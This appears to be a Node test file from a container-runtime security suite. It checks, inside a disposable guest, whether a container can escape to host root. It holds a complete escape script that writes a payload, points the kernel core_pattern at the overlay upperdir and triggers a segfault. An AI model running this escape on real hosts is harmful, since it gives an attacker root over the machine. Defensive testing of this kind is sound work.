/** Attacks that would change a developer's machine: tried to their end in one that is thrown away. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { eventually } from '../harness/command.ts';
import { type Guest, startGuest } from './guest.ts';

const PATTERN = '/proc/sys/kernel/core_pattern';
const MADE = '/tmp/made-by-a-core-dump';

describe('a container that names the program which takes core dumps', () => {
  let guest: Guest;
  let own: string;
  before(async () => {
    guest = await startGuest();
    own = readFileSync(PATTERN, 'utf8');
  });
  after(() => guest[Symbol.asyncDispose]());

  /** Has the host run the container's program, as root? */
  async function attack(...flags: string[]): Promise<boolean> {
    const script = [
      `printf '#!/bin/sh\\nid -u > ${MADE}\\n' > /payload; chmod +x /payload`,
      // Where the host has the container's files is told by its own mount.
      'upper=$(sed -n "s/.*upperdir=\\([^,]*\\).*/\\1/p" /proc/mounts)',
      `echo "|$upper/payload" > ${PATTERN}`,
      'sh -c "kill -SEGV \\$\\$"; sleep 3',
    ].join('\n');
    await guest.daemon.docker(['run', '--rm', ...flags, guest.busybox, 'sh', '-c', script]);
    const changed = readFileSync(PATTERN, 'utf8') !== own;
    if (changed) await eventually('the kernel runs the program', () => existsSync(MADE) || null);
    const succeeded = existsSync(MADE) && readFileSync(MADE, 'utf8') === '0\n';
    rmSync(MADE, { force: true });
    writeFileSync(PATTERN, own);
    return succeeded;
  }

  const open = ['--security-opt', 'systempaths=unconfined'];

  it('cannot', async () => assert.equal(await attack(), false));
  it('cannot where the file is writable but AppArmor stands', async () => assert.equal(await attack(...open), false));
  it('becomes root of the host without both', async () =>
    assert.equal(await attack(...open, '--security-opt', 'apparmor=unconfined'), true));
  it('becomes root of the host when it is privileged', async () => assert.equal(await attack('--privileged'), true));
});
